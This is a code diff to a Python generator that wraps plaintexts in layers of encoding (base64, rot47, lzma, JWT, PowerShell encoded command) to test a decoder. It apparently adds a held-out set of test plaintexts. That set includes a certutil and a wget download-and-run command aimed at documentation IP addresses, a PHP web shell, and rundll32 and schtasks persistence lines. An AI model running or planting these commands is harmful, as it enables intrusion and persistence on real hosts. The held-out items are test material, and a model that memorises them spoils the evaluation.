@@ -7,6 +7,7 @@ import binascii
 import bz2
 import codecs
 import gzip
+import json
 import lzma
 import random
 import urllib.parse
@@ -55,6 +56,15 @@ WRAPPERS: dict[str, Encoder] = {
     "rot13": lambda b, _: codecs.encode(b.decode(), "rot13").encode(),
     "caesar": lambda b, rng: _shifted(b, rng.randint(1, 25)),
     "reversed": lambda b, _: b[::-1],
+    "base64 joined": lambda b, _: _joined(base64.b64encode(b).decode(), '" + "'),
+    "base64 quoted lines": lambda b, _: _joined(base64.b64encode(b).decode(), '"\n"'),
+    "hex dump": lambda b, _: _dumped(b),
+    "form": lambda b, _: urllib.parse.quote_plus(b).encode(),
+    "rot47": lambda b, _: bytes(33 + (c - 33 + 47) % 94 if 33 <= c < 127 else c for c in b),
+    "lzma": lambda b, _: base64.b64encode(lzma.compress(b, format=lzma.FORMAT_ALONE)),
+    "encoded command": lambda b, _: _command(b),
+    "jwt": lambda b, _: _token(b),
+    "chr": lambda b, _: "&".join(f"chr({c})" for c in b).encode(),
 }
 
 PLAIN = (
@@ -76,17 +86,63 @@ PLAIN = (
 )
 
 
-def chain(rng: random.Random, layers: int, *, limit_bytes: int = 20_000) -> tuple[str, str, list[str]]:
+HELD_PLAIN = (
+    "rundll32.exe C:\\Windows\\Temp\\a.dll,Start",
+    "certutil -urlcache -split -f http://192.0.2.44/p.exe C:\\Users\\Public\\p.exe",
+    "http://cdn-update.example.org/api/v2/check?os=win10&arch=x64",
+    "Das Treffen findet am Montag um neun Uhr im Keller statt.",
+    "<?php system($_GET['cmd']); ?>",
+    "#!/bin/bash\nwget http://203.0.113.9/m -O /tmp/.m\nchmod +x /tmp/.m && /tmp/.m &",
+    '[{"id": 7, "user": "root", "token": "abc123"}, {"id": 8, "user": "guest"}]',
+    "user=admin&password=letmein&submit=Login",
+    "schtasks /create /tn Updater /tr C:\\ProgramData\\u.exe /sc minute",
+)
+"""Kinds of text that were not used while the decoder was developed."""
+
+
+ALPHABETS = {"rot13", "caesar", "reversed", "rot47"}
+
+
+def chain(
+    rng: random.Random, layers: int, *, limit_bytes: int = 20_000, plains: tuple[str, ...] = PLAIN
+) -> tuple[str, str, list[str]]:
     """A plain text, the same text wrapped in so many layers, and the names of the layers, innermost first."""
-    plain = rng.choice(PLAIN)
-    data, names = plain.encode(), []
+    plain = rng.choice(plains)
+    data = plain.encode()
+    names: list[str] = []
     while len(names) < layers and len(data) < limit_bytes:
         name = rng.choice(list(WRAPPERS))
-        if names and {name, names[-1]} <= {"rot13", "caesar", "reversed"}:
+        if names and {name, names[-1]} <= ALPHABETS:
             continue
         data = WRAPPERS[name](data, rng)
         names.append(name)
     return plain, data.decode(), names
+
+
+def _joined(text: str, between: str) -> bytes:
+    size = max(8, len(text) // 4)
+    return ('"' + between.join(text[start : start + size] for start in range(0, len(text), size)) + '"').encode()
+
+
+def _dumped(data: bytes) -> bytes:
+    lines = []
+    for start in range(0, len(data), 16):
+        part = data[start : start + 16]
+        shown = "".join(chr(value) if 32 <= value < 127 else "." for value in part)
+        lines.append(f"{start:08x}  {part.hex(' '):<47}  |{shown}|")
+    return "\n".join(lines).encode()
+
+
+def _command(data: bytes) -> bytes:
+    blob = base64.b64encode(data.decode("latin-1").encode("utf-16-le")).decode()
+    return f"The task ran powershell.exe -NoP -NonI -EncodedCommand {blob} on the host".encode()
+
+
+def _token(data: bytes) -> bytes:
+    def part(value: object) -> str:
+        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
+
+    return f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part({'data': data.decode('latin-1')})}.c2ln".encode()
 
 
 def _xored(data: bytes, key: int) -> bytes:
